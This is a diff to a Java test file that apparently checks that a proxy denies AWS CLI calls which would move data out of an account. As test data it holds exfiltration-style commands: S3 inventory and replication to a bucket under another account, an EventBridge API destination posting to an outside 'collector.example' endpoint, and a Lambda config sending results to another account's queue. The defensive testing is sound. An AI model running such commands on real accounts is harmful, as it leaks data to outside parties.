@@ -108,7 +108,16 @@ class AwsNetworkExposureTest {
                     "{\"Role\":\"arn:aws:iam::123456789012:role/r\",\"Rules\":[{\"Status\":\"Enabled\",\"Priority\":1,\"Filter\":{},"
                             + "\"DeleteMarkerReplication\":{\"Status\":\"Disabled\"},\"Destination\":{\"Bucket\":\"arn:aws:s3:::dev-bucket\","
                             + "\"Account\":\"210987654321\"}}]}"));
-            assertTrue(seen.stream().noneMatch(s -> s.contains("notification") || s.contains("replication")), "nothing reached S3: " + seen);
+            assertDenied(fixture, env, List.of("s3api", "put-bucket-inventory-configuration", "--bucket", "dev-bucket", "--id", "inv",
+                    "--inventory-configuration", "{\"Id\":\"inv\",\"IsEnabled\":true,\"IncludedObjectVersions\":\"Current\",\"Schedule\":"
+                            + "{\"Frequency\":\"Daily\"},\"Destination\":{\"S3BucketDestination\":{\"Bucket\":\"arn:aws:s3:::dev-bucket\","
+                            + "\"AccountId\":\"210987654321\",\"Format\":\"CSV\"}}}"));
+            // Event rules delivering to an HTTP endpoint outside AWS.
+            assertDenied(fixture, env, List.of("events", "create-api-destination", "--name", "out", "--connection-arn",
+                    "arn:aws:events:us-east-1:123456789012:connection/c/1", "--invocation-endpoint", "https://collector.example/hook",
+                    "--http-method", "POST"));
+            assertTrue(seen.stream().noneMatch(s -> s.contains("notification") || s.contains("replication") || s.contains("inventory")
+                    || s.contains("collector")), "nothing reached S3 or EventBridge: " + seen);
             // A function's results sent to another account's queue (through the proxy no route names the call: refused as unknown).
             var lambda = exec(fixture, List.of("lambda", "put-function-event-invoke-config", "--function-name", "f", "--destination-config",
                     "{\"OnSuccess\":{\"Destination\":\"arn:aws:sqs:us-east-1:210987654321:theirs\"}}"));
